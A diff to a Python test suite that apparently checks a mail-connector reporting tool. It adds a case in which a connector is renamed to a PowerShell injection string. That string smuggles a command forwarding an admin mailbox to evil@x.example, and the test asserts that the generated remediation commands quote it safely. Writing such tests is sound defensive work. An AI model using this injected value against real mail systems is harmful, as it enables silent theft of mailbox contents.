@@ -102,6 +102,36 @@ def _rejected_rows(tenant: str, reasons: list[str]) -> Callable[[Scratch, str, s
     return check
 
 
+EVIL_CONNECTOR = "x\u2019; Set-Mailbox admin -ForwardingSmtpAddress evil@x.example; #"
+
+
+def _rename_connector(s: Scratch) -> list[str]:
+    """contoso's attacker connector renamed to a PowerShell injection (in its snapshot and
+    its audit events, as the attacker would name it)."""
+    for path in (s.inbox / "contoso").iterdir():
+        raw = path.read_bytes()
+        utf16 = raw[1:4:2] == b"\x00\x00" or raw.startswith(b"\xff\xfe")
+        codec = "utf-16-le" if utf16 else "utf-8"
+        text = raw.decode(codec).replace("Inbound Relay Partner", EVIL_CONNECTOR)
+        path.write_bytes(text.encode(codec))
+    return s.nightly()
+
+
+def _one_literal_each(s: Scratch, out: str, err: str) -> None:
+    from tests.test_report import ps_single_quoted
+
+    text = (s.reports / AS_OF / "report.txt").read_text(encoding="utf-8")
+    commands = [ln.strip() for ln in text.splitlines()
+                if ln.strip().startswith(("Set-InboundConnector", "Remove-InboundConnector"))]
+    assert commands
+    for command in commands:
+        start = command.index("-Identity ") + len("-Identity ")
+        value, end = ps_single_quoted(command, start)
+        assert value in (EVIL_CONNECTOR, "Contoso On-Premises", "Inbound Relay Partner")
+        assert not command[end:].lstrip().startswith(";")
+    assert any(EVIL_CONNECTOR.replace("\u2019", "\u2019\u2019") in c for c in commands)
+
+
 def _rebuilt(s: Scratch, out: str, err: str) -> None:
     """The damaged partition was put aside, not deleted, and rebuilt from the raw exports."""
     kept = list((s.lake / "quarantine").glob("*messages__tenant=t000__date=2026-11-20*"))
@@ -118,6 +148,8 @@ CASES = [
          lambda s: ["nightly", "--inbox", str(s.inbox), "--lake", str(s.lake), "--reports",
                     str(s.reports), "--as-of", "2062-11-28", "--no-email", "--keep-days", "90"], 2,
          "relaywatch: error: --as-of 2062-11-28 00:00Z is in the future"),
+    Case("PowerShell injection through a connector name", _rename_connector, 0, "",
+         _one_literal_each, "contoso"),
     Case("lake at the root folder", lambda s: ["ingest", str(s.inbox), "--lake", "/"], 2,
          "relaywatch: error: /: refusing to use / as the lake"),
     Case("lake in a folder of someone else's files",
